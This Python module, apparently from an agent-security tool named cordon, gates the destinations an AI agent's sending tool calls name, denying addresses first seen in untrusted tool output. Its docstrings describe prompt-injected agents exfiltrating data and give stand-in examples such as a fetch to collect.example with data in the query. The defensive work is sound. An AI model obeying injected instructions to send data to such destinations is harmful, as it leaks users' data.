"""The taint sink gate: a destination a sending call names must be cleared.

A destination that first appeared in untrusted tool output is denied
(``taint.seen_in_output``): that is how an injected instruction exfiltrates. One that is
neither in output nor cleared is asked about (``taint.unverified_destination``). What clears
a destination: the user's own text naming it, a directory listing, the allowlist
(``trusted_destinations``), or an earlier send or approval of it. A look-alike spelling is
cleared only as spelled.

This check also establishes the facts the later checks read: whether the call sends, every
destination found, whether all of them were cleared; and it answers the ``actions`` ask when
the user's own request asks for the action and names every destination ("refund GB29... for
what they sent me").

Held values (:func:`_held`): a sink is a parameter named like a destination
(:func:`cordon.taint.is_sink_param`) or declared by the policy, and, whatever its name, a
string argument of a sending tool that *is* an e-mail address or a phone number seen in
untrusted output. ``send_sms(number=...)``, ``send_email(target=...)``,
``share_document(user=...)`` and ``invite_member(who=...)`` carried a planted destination
out as ``default.allow`` because those names are as often a lookup's key (``get_issue(number=
42)``, ``get_user(username=...)``); the value decides instead. A sending tool: the policy
says so (``exfiltrating: true`` without ``sink_params``: a list of sinks is the policy's whole
answer, as a pack gives it), or, with no policy word, its name does
(:func:`cordon.taint.is_sending_tool`: ``send``, ``share``, ``invite``, ``sms``...; no read,
draft or removal verb) and its server does not mark it read-only. Only values that are
addresses: free text that mentions one (more than two words besides it), a parameter named
for the payload (``body``, ``subject``, ``query``) and a look-up tool are left alone; a phone
number counts only as written (a leading ``+``, or grouped: ``(415) 555-0199``), or as bare
digits in a tool whose name is a phone channel (``sms``, ``call``, ``whatsapp``), never a
date (``2026-12-03``) or an ``id``/``code``/``amount`` parameter: dates, order numbers and
timestamps have a phone's digits, and the index keys them alike. Only values the taint index
does not clear (seen in output, or history lost): an address nobody showed the agent is
what it was before (allowed), so the rule adds no ask to an ordinary send. Each held value is
gated as a sink argument (the user's text, a directory, the allowlist still clear it).
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Collection
from operator import itemgetter
from typing import TYPE_CHECKING, Any

from cordon._types import Verdict
from cordon.engine import args as _args
from cordon.engine import provenance as _prov
from cordon.engine import rules
from cordon.engine.action_names import FREE_TEXT_PARAMS, norm_key
from cordon.engine.checks import _planted_urls, _vouching
from cordon.engine.checks._base import (
    OWN_ASK,
    PASS,
    Check,
    Context,
    Facts,
    Result,
    result,
    sink_facts,
    verdict,
    with_dests,
)
from cordon.engine.checks._message_headers import header_recipients
from cordon.engine.checks._pipeline import COVERED
from cordon.engine.checks._requested import amounts_named, is_payment_tool
from cordon.engine.checks._spelling import (
    has_string,
    match_trusted,
    odd_source,
    odd_sources,
)
from cordon.engine.code_urls import COMPUTED, code_urls
from cordon.engine.commands import command_sinks
from cordon.engine.walk import call_walk
from cordon.taint import (
    Destination,
    extract_destinations,
    extract_marked,
    is_payload_param,
    is_sending_tool,
    is_sink_param,
    mentioned_in_prose,
    name_tokens,
    norm,
    plain_address,
    repo_key,
)
from cordon.taint._keys import phone_key
from cordon.textnorm import mark_lookalikes, strip_invisible

if TYPE_CHECKING:
    from cordon.engine.core import Session

# Destination kinds looked for in the free-text arguments of a sending tool that was called
# without its declared sink parameters (words there are not destinations; addresses are).
_FALLBACK_KINDS = frozenset({"email", "url", "host"})  # not phone: dates and times look like one


def sinks(ctx: Context) -> tuple[bool, list[tuple[str, Any]], bool]:
    """(is_sending, the (argument name, value) pairs to check as destinations, fallback).

    Destination-shaped names count at any depth (``{"headers": {"Bcc": ...}}``), except in
    a tool its server marks read-only (:func:`_reads_only`), where only those that give a
    URL or host do. ``fallback`` is True when a sending tool was called without its declared
    sinks and every string argument is searched for address-shaped destinations instead."""
    tp, arguments = ctx.tv, ctx.arguments
    declared = tp.sink_params
    if (
        declared
        and tp.exfiltrating is not False
        and call_walk(ctx).flat
        and not arguments.keys().isdisjoint(declared)
    ):
        # the usual sending call (declared sinks given, no member below the top level), as
        # _sinks reads it: sending; the declared, then the destination-named arguments
        # present; the network commands' hosts; the code's URLs (none without code_params)
        names = dict.fromkeys(declared)
        for k in arguments:
            if k not in names and is_sink_param(k):
                names[k] = None
        pairs: list[tuple[str, Any]] = []
        for n in names:  # (a loop, not a comprehension: a frame less on every send)
            if n in arguments:
                pairs.append((n, arguments[n]))
        pairs += command_sinks(ctx)
        if tp.code_params:
            pairs += _code_sinks(ctx)
        return True, pairs, False
    return _sinks(ctx)


def _sinks(ctx: Context) -> tuple[bool, list[tuple[str, Any]], bool]:
    """:func:`sinks` of any call."""
    tp, arguments = ctx.tp, ctx.arguments
    code = _code_sinks(ctx)
    if tp.exfiltrating is False:
        return (True, code, False) if code else (False, [], False)
    shaped = [k for k in arguments if is_sink_param(k)]
    nested = (
        []
        if call_walk(ctx).flat  # no member below the top level
        else [
            (k, v)
            for k, v in _args.iter_keyed(arguments)
            if is_sink_param(k) and not (k in arguments and arguments[k] is v)
        ]
    )
    declared = tp.sink_params
    if (shaped or nested) and not declared and _reads_only(ctx):
        shaped = [k for k in shaped if _network(arguments[k])]
        nested = [(k, v) for k, v in nested if _network(v)]
    # hosts and URLs of network commands in exec tools, and of the code a tool runs
    commands = [*command_sinks(ctx), *code]
    links = [] if declared or tp.exfiltrating is not None else _url_values(ctx)
    names = list(dict.fromkeys([*declared, *shaped]))
    held = _held(ctx, names)  # addresses seen in output, in a sending tool's other arguments
    sending = (
        bool(tp.exfiltrating)
        or bool(declared)
        or bool(shaped)
        or bool(nested)
        or bool(links)
        or bool(held)
    )
    if not sending and not commands:
        return False, [], False
    if not sending:
        return True, commands, False
    present = [(n, arguments[n]) for n in names if n in arguments]
    if (declared and arguments.keys().isdisjoint(declared)) or (
        not present and not nested and not links and not held and tp.exfiltrating
    ):
        # A sending tool called without its declared sinks: every string argument is
        # searched for address-shaped destinations (see _FALLBACK_KINDS); a held value is
        # gated whole (a phone number is no fallback kind)
        kept = {path for path, _ in held}
        rest = [(k, v) for k, v in arguments.items() if has_string(v) and k not in kept]
        return True, held + rest + commands, True
    return True, present + held + nested + links + commands, False


def _code_sinks(ctx: Context) -> list[tuple[str, Any]]:
    """``(argument, URL)`` for each URL written in the program text of the tool's
    ``code_params`` (:func:`cordon.engine.code_urls.code_urls`: ``scheme://host...``, a
    protocol-relative ``//host`` opening a string literal), the whole text read. Code run in
    a page reaches any host the way a navigation does (``fetch``, ``XMLHttpRequest``,
    ``navigator.sendBeacon``, ``new Image().src``): a host first seen in untrusted output is
    denied there as in ``browser_navigate``'s ``url`` (the web exfiltration class of a
    prompt-injected browsing agent). A URL whose host is computed at run time names no host
    here; the tool's own ask (``destructive``) is what covers it."""
    out: list[tuple[str, Any]] = []
    for name in ctx.tv.code_params:
        value = ctx.arguments.get(name)
        if isinstance(value, str):
            out.extend((name, url) for url in code_urls(value) if COMPUTED not in url)
    return out


#: a phone number as people write one: a leading ``+`` (E.164), or digits grouped by
#: spaces, dots, dashes or an area code in brackets (``415-555-0199``, ``(415) 555 0199``)
_WRITTEN_PHONE = re.compile(
    r"\+\d[\d\s().-]{5,}\d"
    r"|\(?\d{2,5}\)?[\s.-]?\d{2,4}[\s.-]\d{3,5}"
    r"|\(\d{2,5}\)\s?\d{3,4}[\s.-]?\d{3,5}"
)
#: a date (``2026-12-03``, ``03.12.2026``, ``12/03/26``): a phone's digits, no phone
_DATE = re.compile(r"\d{4}[-./]\d{1,2}[-./]\d{1,2}|\d{1,2}[-./]\d{1,2}[-./](?:\d{4}|\d{2})")
#: a bare run of 7 to 15 digits, read as a phone number in a phone channel's tool only
_BARE_PHONE = re.compile(r"\d{7,15}")
#: tool-name tokens of a phone channel (``send_sms``, ``call_phone``, ``whatsapp_send``)
_PHONE_TOOLS = frozenset(
    {"sms", "mms", "call", "calls", "dial", "phone", "whatsapp", "telegram", "signal", "fax",
     "voice", "text", "texts"}
)  # fmt: skip
#: parameter-name tokens of a number that is no phone: ``order_id``, ``otp_code``, ``amount``
_NOT_PHONE_PARAMS = frozenset(
    {"id", "ids", "ref", "reference", "code", "otp", "pin", "amount", "price", "total",
     "ts", "timestamp", "time", "date", "order", "invoice", "account", "iban", "zip",
     "postcode", "version", "seq", "page", "offset"}
)  # fmt: skip
#: a scheme a phone number or an address is written with (``tel:+1...``, ``whatsapp:+1...``)
_ADDRESS_SCHEME = re.compile(r"(?i)(?:tel|sms|callto|whatsapp|sip|sips):")
#: a held value is read up to this length (an address list; longer text is prose)
_MAX_HELD = 4096


def _held(ctx: Context, named: Collection[str]) -> list[tuple[str, Any]]:
    """The string arguments (``(path, text)``, at any depth) of a sending tool, outside its
    sink parameters ``named`` and the destination-named keys, that are e-mail addresses or
    phone numbers the taint index does not clear: seen in untrusted output, or maybe seen
    (history lost). See the module docstring, "Held values"."""
    tp = ctx.tp
    if tp.exfiltrating is False or tp.sink_params:
        return []  # (the policy's word: not sending, or these are its destinations)
    if not (tp.exfiltrating or is_sending_tool(ctx.tool)):
        return []
    taint = ctx.session.taint
    phone_tool: bool | None = None
    reads_only: bool | None = None
    out: list[tuple[str, Any]] = []
    for path, key, value in call_walk(ctx).scalars:
        if type(value) is int and abs(value) >= 1_000_000:
            value = str(value)
        heads = type(value) is str and not (key in named or is_sink_param(key))
        if heads and (recipients := header_recipients(key, value)) is not None:
            # a raw message: its To/Cc/Bcc/Reply-To lines are where it goes
            if reads_only is None:
                reads_only = _reads_only(ctx)
            if reads_only:
                return []
            listed = extract_destinations(recipients)
            if any(d.kind == "email" and taint.lookup(d) != "clean" for d in listed):
                out.append((path, recipients))
            continue
        if type(value) is not str or len(value) > _MAX_HELD:
            continue
        if "@" not in value and sum(map(str.isdigit, value)) < 7:
            continue  # (the usual argument: no address or number in it)
        if key in named or is_sink_param(key) or is_payload_param(key):
            continue
        if norm_key(key) in FREE_TEXT_PARAMS:
            continue
        if reads_only is None:
            reads_only = _reads_only(ctx)
        if reads_only:
            return []
        text = _ADDRESS_SCHEME.sub("", value.strip(), count=1)
        dests = _plain_phone(text)
        if dests is None:
            dests = [d for d in extract_destinations(text) if d.kind in ("email", "phone")]
            if not dests:
                continue
            if mentioned_in_prose(norm(text), dests):
                continue  # prose that mentions an address: the payload, not where it goes
        if any(d.kind == "phone" for d in dests):
            if phone_tool is None:
                phone_tool = not _PHONE_TOOLS.isdisjoint(name_tokens(ctx.tool))
            dests = [d for d in dests if d.kind != "phone" or _phone(d.raw, key, phone_tool)]
        if any(taint.lookup(d) != "clean" for d in dests):
            out.append((path, text))
    return out


def _plain_phone(text: str) -> list[Destination] | None:
    """``text`` as one phone number, when it is plainly one (ASCII digits written as a phone
    number or a bare run of them): what :func:`extract_destinations` gives it, without its
    decodings (a fresh number in every call is the usual argument of an SMS tool)."""
    word = text.strip()
    if not word.isascii() or not (_WRITTEN_PHONE.fullmatch(word) or _BARE_PHONE.fullmatch(word)):
        return None
    key = phone_key(word)
    return None if key is None else [Destination(kind="phone", raw=word, key=key)]


def _phone(raw: str, key: str, phone_tool: bool) -> bool:
    """``raw`` (a phone-shaped destination of argument ``key``) is held as a phone number:
    written as one, or bare digits in a phone channel's tool; never a date, and never in a
    parameter named for an id, a code, an amount or a time."""
    word = raw.strip()
    if _DATE.fullmatch(word) or not _NOT_PHONE_PARAMS.isdisjoint(name_tokens(key)):
        return False
    return bool(_WRITTEN_PHONE.fullmatch(word)) or (
        phone_tool and bool(_BARE_PHONE.fullmatch(word))
    )


def _url_values(ctx: Context) -> list[tuple[str, Any]]:
    """The arguments, at any depth and whatever they are named, whose whole value is a URL
    (:func:`_whole_url`), in a tool the policy says nothing about (no ``exfiltrating``, no
    ``sink_params``: no pack or policy entry enumerates its destinations) and that its
    server does not mark ``openWorldHint: false``. Such a tool may reach the open world (the
    MCP default for a tool without the hint), and a URL handed to it whole is where it goes:
    ``fetch(target="https://collect.example/?d=...")`` sends the path and query to that host
    as surely as a parameter named ``url`` does. Each is gated like a sink argument (seen in
    output: denied; named by nobody: asked). Values under a destination-named key are left
    to the name rule (they are sinks already); a URL inside longer text is not a target (a
    note that mentions a link fetches nothing)."""
    s = ctx.session
    if s._annotation(ctx.server, ctx.tool, "openWorldHint") is False:
        return []
    return [
        (path, value)
        for path, key, value in call_walk(ctx).scalars
        if isinstance(value, str) and not is_sink_param(key) and _whole_url(value)
    ]


#: a string that may be one URL: no whitespace inside, and a scheme, a dot or a leading
#: ``//`` / ``\\`` (a cheap test before the destination parser reads it)
_URL_SHAPE = re.compile(r"\s*(?:[^\s]*(?:://|\.)[^\s]*|(?://|\\\\)[^\s]+)\s*")


def _whole_url(value: str) -> bool:
    """``value`` is one URL and nothing else: a scheme URL (``https://h/p``), a ``www.`` or
    host-with-path form (``h.example/in?d=x``), or protocol-relative (``//h/p``,
    ``\\\\h\\share``). A bare name with a dot (``notes.md``, ``example.com``) is not: file
    names look the same; but a host followed by a query, a fragment or a port
    (``h.example?d=x``, ``h.example:8080``) is a URL, and so is a ``mailto:``. A value over
    :data:`_MAX_URL` is judged by its head (fail closed: a long query is what exfiltrates)."""
    word = value.strip()
    if len(word) > _MAX_URL:
        if _SPACE.search(word):
            return False
        word = word[:_MAX_URL]
    if "." not in word and ":" not in word and "/" not in word and "\\" not in word:
        # (neither test below can pass: the shape needs ``://``, a dot, ``//`` or a
        # backslash pair, ``mailto:`` a colon; the usual argument is a word or a sentence)
        return False
    if not _URL_SHAPE.fullmatch(word) and not word.lower().startswith("mailto:"):
        return False
    if word.startswith(("//", "\\\\")) and len(word) > 2 and word[2] not in "/\\":
        return True
    if word.lower().startswith("mailto:"):
        return True
    for d in extract_destinations(word):
        if d.kind == "url" or (d.kind == "host" and _HOST_TAIL.match(word)):
            return True
    return False


_SPACE = re.compile(r"\s")
#: a host then a query, a fragment or a port: where a fetcher that adds a scheme goes
_HOST_TAIL = re.compile(r"[^\s/?#:@]+\.[^\s/?#:@]+(?:[?#]|:\d)")


#: a longer value is read by its head this long (the cap bounds the parser's work per call)
_MAX_URL = 8192


def _asked_for(ctx: Context, facts: Facts) -> bool:
    """The user's own request asks for this action: a ``requires_request`` tool it asks for,
    or a payment whose every amount it names (:mod:`._requested`; the payee is the caller's
    test: every destination named by the user)."""
    if facts.requested:
        return True
    return is_payment_tool(ctx.tool) and amounts_named(ctx.arguments, ctx.session.trusted_texts)


def _reads_only(ctx: Context) -> bool:
    """The tool's pinned definition says ``readOnlyHint: true`` and the policy does not say
    it sends (``exfiltrating``, ``sink_params``). Such a tool reads: a destination-named
    parameter of it (``channel``, ``user``, ``sender``) names what to read, not where data
    goes (MCP 2025-06-18, "Tool annotations": a read-only tool does not modify its
    environment). A URL or host in one still is a destination: fetching it sends the
    request, query and all, to that host (exfiltration through a GET)."""
    if ctx.tp.exfiltrating:
        return False
    s, server, tool = ctx.session, ctx.server, ctx.tool
    return (
        s._annotation(server, tool, "readOnlyHint") is True
        and s._annotation(server, tool, "destructiveHint") is not True
    )


def _network(value: Any) -> bool:
    """``value`` may give a network address: a URL or a host, a word with a character of an
    address or a path in it (a protocol-relative ``//host/x?d=...``, ``\\\\host\\share``,
    ``host:8080``), or a string cordon cannot read as any destination (asked about, as in a
    sending tool: fail closed). Plain names, channels, e-mail addresses and phone numbers
    are not."""
    dests = extract_destinations(value)
    if not dests:
        return has_string(value)
    return any(
        d.kind in _NETWORK_KINDS or (d.kind == "other" and not _ADDRESS_CHARS.isdisjoint(d.raw))
        for d in dests
    )


#: destination kinds that are network addresses (see :func:`_reads_only`)
_NETWORK_KINDS = frozenset({"url", "host"})
#: characters of a URL, a host with a port, a share path: a word with one may be fetched
_ADDRESS_CHARS = frozenset("/\\:?@=&%")


def run(ctx: Context, facts: Facts) -> Result:
    sending, sink_pairs, fallback = sinks(ctx)
    if not sending:
        return PASS
    # (a held value keeps its phone numbers in a fallback scan; see _held)
    scan = _Scan(ctx, fallback, frozenset(n for n, _ in _held(ctx, ())) if fallback else None)
    names = list(map(itemgetter(0), sink_pairs))  # (no comprehension: no frame of its own)
    if "owner" in names and "repo" in names:
        scan.repo = _prov.call_repo_pair(ctx.arguments)
    for name, value in sink_pairs:
        deny = scan.value(name, value)
        if deny is not None:
            return Result(deny=with_dests(deny, scan.found))
    found = tuple(scan.found)
    answered = bool(found) and scan.all_user_named and not fallback and _asked_for(ctx, facts)
    return result(  # (Result(asks=..., answers=..., facts=...), built by slot setters)
        None,
        tuple(scan.asks),
        _ANSWERS_ACTIONS if answered else _ANSWERS_NONE,
        {
            "sending": True,
            "taint": sink_facts(
                fallback,
                frozenset(names),
                found,
                scan.cleared and bool(found),
                frozenset(scan.odd),
                tuple(scan.spellings),
                scan.over_taint,
                frozenset(scan.hosts),
            ),
        },
    )


#: what a send answers: the ``actions`` ask (the user's own request names every destination
#: and asks for the action), or nothing
_ANSWERS_ACTIONS = frozenset({"actions"})
_ANSWERS_NONE: frozenset[str] = frozenset()


class _Scan:
    """The destinations of one call's sink arguments, gated one by one; what it found."""

    # (one per sending call: slots, no instance dict to build)
    __slots__ = ("_repo_seen", "all_user_named", "asks", "cleared", "ctx", "fallback", "found",
                 "held", "hosts", "odd", "over_taint", "patterns", "repo", "spellings")  # fmt: skip

    def __init__(self, ctx: Context, fallback: bool, held: frozenset[str] | None = None) -> None:
        self.ctx = ctx
        self.fallback = fallback
        #: in a fallback scan, the held arguments (:func:`_held`), gated whole
        self.held = held or frozenset()
        self.patterns = ctx.tv.trusted_destinations
        self.found: list[str] = []
        self.asks: list[Verdict] = []
        self.odd: set[str] = set()
        #: ``(key, raw)`` of each destination spelled plainly (``SinkFacts.spellings``)
        self.spellings: list[tuple[str, str]] = []
        self.over_taint: dict[str, str] = {}
        #: the host of each URL or host destination spelled plainly (``SinkFacts.hosts``)
        self.hosts: set[str] = set()
        self.cleared = True
        self.all_user_named = True
        #: the call's ``owner`` and ``repo`` (both sink parameters), as a pair
        self.repo: tuple[str, str] | None = None
        #: whether untrusted output named that pair (:meth:`_repo_in_output`), once read
        self._repo_seen: bool | None = None

    def _repo_named(self, name: str, dest: Destination) -> bool:
        """The user's text names the repository ``owner/repo`` this call's ``owner`` and
        ``repo`` arguments give (:mod:`cordon.engine.provenance.repos`), and ``dest`` is the
        whole argument ``name``, one of them: the pair vouches for both, for this call."""
        if self.repo is None or name not in ("owner", "repo"):
            return False
        if self.repo not in self.ctx.session.trusted_repos:
            return False
        return dest.key == norm(self.ctx.arguments[name])

    def _repo_in_output(self, name: str, dest: Destination) -> bool:
        """Untrusted output named the repository ``owner/repo`` this call's ``owner`` and
        ``repo`` arguments give (:mod:`cordon.taint._repos`), and ``dest`` is the whole
        argument ``name``, one of them: both are tainted as that pair, as an e-mail address
        read in output is (``taint.seen_in_output``).

        The pair only: an ``owner`` with another repository (or an ``organization`` alone)
        is not tainted by it, as ``bob@evil.example`` in output does not taint
        ``alice@evil.example``. GitHub's own output names the owner of every repository it
        shows (each URL, each ``full_name``), so owner taint would deny the user's own
        organisation after any read of it; such a call stays asked about
        (``taint.unverified_destination``) unless something clears it.

        Nor is a pair this session's calls used before any output named it
        (``Session.used_repos``): a read of the user's own repository returns its name in
        every URL, and that echo did not put the name in the agent's hands, as a confirmation
        that echoes an address does not (``Session.vouched``). Such a call is asked about as
        before the echo, never allowed by it."""
        if self.repo is None or name not in ("owner", "repo"):
            return False
        if self.repo in self.ctx.session.used_repos:
            return False
        if dest.key != norm(self.ctx.arguments[name]):
            return False
        if self._repo_seen is None:
            self._repo_seen = self.ctx.session.taint.contains_key(repo_key(*self.repo))
        return self._repo_seen

    def _display_name(self, value: Any, listable: bool) -> bool:
        """A display name a directory listed whole ("Bob Smith"): one destination, not two
        words."""
        s, server = self.ctx.session, self.ctx.server
        return (
            isinstance(value, str)
            and listable
            and " " in value.strip()
            and norm(value) in s.directory.get(server, ())
            and (
                server not in s.directory_plain
                or norm(mark_lookalikes(value)) in s.directory_plain[server]
            )
        )

    def value(self, name: str, value: Any) -> Verdict | None:
        """Gate the destinations of one sink argument; a deny stops the scan."""
        s, server = self.ctx.session, self.ctx.server
        texts = (
            [value]
            if isinstance(value, str)
            else [x for x in _args.leaves(value) if isinstance(x, str)]
        )
        # a lone plain address (the usual send) is plain, vouchable and its only view, and
        # extracts to itself unmarked (plain_address): its spelling tests and its extraction
        # are not run (may_fold is read only with marked)
        lone = plain_address(value) if type(value) is str else None
        read = (
            _vouching.leaf_spellings(s, server, texts)
            if lone is None
            else ([], texts, False, _vouching.ANY, True)
        )
        odd_leaves, plain_leaves, may_fold, spelled, one_view = read
        listed_name = bool(s.namespace) and _in_namespace(self.ctx, name, texts)
        # (a plain address has no space: never a display name)
        if lone is None and self._display_name(value, spelled[1]):
            self.found.append(norm(value))
            self.all_user_named = self.all_user_named and _prov.has_words(
                s._trusted_norm(), norm(value)
            )
            return None
        dests, marked = (
            ([lone], False)
            if lone is not None
            else extract_marked(value, one_view=one_view and isinstance(value, str))
        )
        if not dests and not self.fallback and has_string(value):
            # a sink value that names no destination cordon can parse is not cleared:
            # it is asked about, never allowed unseen
            raw = " ".join(texts)
            dests = [Destination(kind="other", raw=raw[:200], key=norm(raw)[:200])]
            marked = True  # (its key is none of the spelled extraction's)
        # plain_keys of the value: the keys its spelled extraction gives, when it may fold;
        # that extraction is the plain one when marking changed no text read (every key plain)
        plain_set = (
            {d.key for d in extract_destinations(value, spelled=True)}
            if may_fold and marked
            else None
        )
        sources = None
        for dest in dests:
            if self.fallback and dest.kind not in _FALLBACK_KINDS and name not in self.held:
                continue  # a title or a note is not a destination; an address in it is
            self.found.append(dest.key)
            plain = plain_set is None or dest.key in plain_set
            if not plain:
                self.odd.add(dest.key)
            named = spelled[0] and (
                _vouching.user_named(s, dest, plain) or self._repo_named(name, dest)
            )
            self.all_user_named = self.all_user_named and named
            if odd_leaves and sources is None:
                sources = odd_sources(odd_leaves, plain_leaves)
            odd = odd_source(dest, sources, self.patterns) if sources is not None else None
            # (a place output chose on a host the user named: _planted_urls; the pair's
            # taint for a call naming owner and repo: the usual send calls neither)
            planted = named and odd is None
            v = _planted_urls.check(self.ctx, dest, name, True, plain, texts) if planted else None
            pair_seen = self.repo is not None and self._repo_in_output(name, dest)
            v = v or gate(self.ctx, dest, name, self.patterns, named, spelled[1], odd, plain,
                          self.over_taint, listed_name and dest.kind in _prov.NAME_KINDS,
                          pair_seen)  # fmt: skip
            if plain and odd is None:
                self.spellings.append((dest.key, dest.raw))
                host = dest.host
                if host:
                    self.hosts.add(host)
            if v is None:
                continue
            if v.verdict == "deny":
                return v
            self.cleared = False
            self.asks.append(v)
        return None


def _in_namespace(ctx: Context, param: str, texts: list[str]) -> bool:
    """Every string of a sink argument is a name, spelled exactly as a read-only listing of
    the call's server gave it whole, of a noun the parameter's name carries (``channel`` for
    ``get_channels``; :mod:`cordon.engine.provenance.namespace`)."""
    namespace = ctx.session.namespace
    if not namespace or not texts:
        return False
    for noun in _prov.param_nouns(param):
        names = namespace.get((ctx.server, noun))
        if names and all(_plain_name(x) and _prov.strict(x) in names for x in texts):
            return True
    return False


def _plain_name(text: str) -> bool:
    """``text`` is sent as the spelling a listing's key stands for: no invisible character
    and already in NFKC form. ``gen\u200beral`` or fullwidth ``ｇｅｎｅｒａｌ`` folds to a
    listed ``general`` but names another channel or member (or one an attacker can create),
    so it is vouched by no listing (fail closed: asked about)."""
    word = text.strip()
    return strip_invisible(word) == word and unicodedata.normalize("NFKC", word) == word


def gate(
    ctx: Context,
    dest: Destination,
    param: str,
    trusted_patterns: tuple[str, ...],
    user_named: bool,
    listable: bool,
    odd: bool | None,
    plain: bool,
    over_taint: dict[str, str],
    namespaced: bool = False,
    pair_seen: bool = False,
) -> Verdict | None:
    """The verdict for one destination (``None``: no objection). ``user_named``: the user's
    text names it in this spelling; ``listable``: a directory may vouch for its spelling.
    ``odd``: the call spells it with look-alike characters (:func:`_spelling.odd_spelling`),
    and whether the allowlist names that spelling exactly: then its folded key vouches for
    nothing (not the allowlist, not an earlier send or approval of that key). ``plain``:
    a string without look-alike characters gives it (:func:`_vouching.listed`).
    ``over_taint`` collects the destinations seen in output that something cleared anyway.
    ``namespaced``: a name a read-only listing of this server gave whole, for a parameter
    of the listing's noun (:func:`_in_namespace`). ``pair_seen``: ``dest`` is a call's
    ``owner`` or ``repo`` and output named that pair (:meth:`_Scan._repo_in_output`): tainted
    as if its own key were, with the same precedence (the user's text, a listing, an earlier
    send or approval of it and an allowlist that beats taint still clear it)."""
    s = ctx.session
    sink_is_url = dest.kind == "url"
    if ctx.tv.trusted_text_beats_taint and user_named:
        if pair_seen or s.taint.seen_here(dest, sink_is_url=sink_is_url):
            over_taint[dest.key] = "user_text"
        return None
    if listable and _vouching.listed(s, ctx.server, dest.key, plain):
        # listed whole by a directory tool (policy ``directory: true``)
        if pair_seen or s.taint.seen_here(dest, sink_is_url=sink_is_url):
            over_taint[dest.key] = "directory"
        return None
    if namespaced:
        # the workspace's own name for a channel or a member (provenance/namespace.py)
        if pair_seen or s.taint.seen_here(dest, sink_is_url=sink_is_url):
            over_taint[dest.key] = "listing"
        return None
    state = _state(s, dest, odd, plain, pair_seen)
    allowlisted = (
        (bool(trusted_patterns) and match_trusted(dest, trusted_patterns)) if odd is None else odd
    )
    beats = allowlisted and ctx.tv.allowlist_beats_taint
    shared = s.taint.shared
    if state == "unknown" and shared is not None and shared.keys_lost and not beats:
        # a sibling cordon process delivered output it never indexed (it died, failed, or
        # was still indexing past the wait): that output may hold this destination, and
        # eager recording would have said "tainted". Denied, like taint.
        return _deny(
            rules.TAINT_HISTORY_LOST,
            f"destination in '{param}' cannot be cleared: another cordon process of "
            "this client delivered output it has not indexed",
            param,
            dest,
        )
    if state == "tainted" and not beats:
        return _deny(
            rules.TAINT_SEEN_IN_OUTPUT,
            f"destination in '{param}' first appeared in untrusted tool output",
            param,
            dest,
        )
    if allowlisted and (state in ("clean", "tainted") or ctx.tv.allowlist_beats_taint):
        # an allowlisted destination whose taint cannot be known (history trimmed, or a
        # sibling process's output not indexed in time) is asked about: the allowlist
        # does not beat taint, so it cannot beat "maybe tainted" either, nor the echo of
        # its host in output
        if state != "clean":
            over_taint[dest.key] = "allowlist"
        return None
    return _unverified(ctx, dest, param, state, odd)


def _state(s: Session, dest: Destination, odd: bool | None, plain: bool, pair_seen: bool) -> str:
    """Whether untrusted output gave ``dest`` (:meth:`cordon.taint.TaintIndex.lookup`), or
    ``"echoed"`` (:func:`_own_host_state`); an earlier send or approval of its key, spelled
    plainly, clears it (``Session.vouched``)."""
    if dest.key in s.vouched and odd is None:
        return "clean"
    if pair_seen:
        return "tainted"
    if s.used_hosts and odd is None and plain and dest.host in s.used_hosts:
        return _own_host_state(s, dest)
    return s.taint.lookup(dest, sink_is_url=dest.kind == "url", sent_echo=odd is None and plain)


def _own_host_state(s: Session, dest: Destination) -> str:
    """The taint state of a URL or host whose host this session sent to while no output had
    named it (``Session.used_hosts``): its echo since (a page's own URL, the links it gives
    to itself) did not put the host in the agent's hands, so the host alone does not taint
    another URL of it, as a repository's echo does not taint that repository
    (:meth:`_Scan._repo_in_output`). ``"tainted"`` when output gave this very URL (a form or
    a redirect on a shared host is the attacker's as much as a host is); ``"echoed"`` when
    output named only the host: asked about, as before the echo, and not cleared by an
    allowlist that does not beat taint; else what the index says of the URL's own key."""
    host = dest.host or dest.key
    if dest.key != host:
        state = s.taint.lookup(dest, sent_echo=True)
        if state != "clean":
            return state
    state = s.taint.lookup(Destination(kind="host", raw=host, key=host))
    return "echoed" if state == "tainted" else state


def _deny(rule: str, reason: str, param: str, dest: Destination) -> Verdict:
    return Verdict(verdict="deny", rule=rule, reason=reason, param=param, destination=dest.key)


def _unverified(
    ctx: Context, dest: Destination, param: str, state: str, odd: bool | None
) -> Verdict | None:
    """The ask for a destination nothing cleared, unless a person approved it before."""
    key = (ctx.server, ctx.tool, rules.TAINT_UNVERIFIED_DESTINATION, param, dest.key)
    if odd is None and key in ctx.session.approvals:
        # (named on the call's allow: cordon.engine.checks._pipeline.resolve)
        ctx.memo.setdefault(COVERED, []).append((key[2], repr(dest.key)))
        return None
    why = (
        "session output was trimmed past its memory cap, or another cordon process's output"
        " could not be read in time, so this destination cannot be cleared"
        if state == "unknown"
        else "untrusted tool output named its host after this session first went there, and"
        " this destination was not approved"
        if state == "echoed"
        else "destination is not on an allowlist and was not approved"
    )
    v = ctx.memo[OWN_ASK] = verdict(  # (this call's own: the pipeline may complete it)
        "ask",
        rules.TAINT_UNVERIFIED_DESTINATION,
        f"'{param}': {why}",
        param=param,
        destination=dest.key,
        # an approval of it covers these very arguments, not its folded key (which the
        # real address shares)
        details={"odd_spelling": True} if odd is not None else {},
    )
    return v


CHECK = Check(
    "taint",
    run,
    (
        rules.TAINT_HISTORY_LOST,
        rules.TAINT_SEEN_IN_OUTPUT,
        rules.TAINT_UNVERIFIED_DESTINATION,
    ),
)
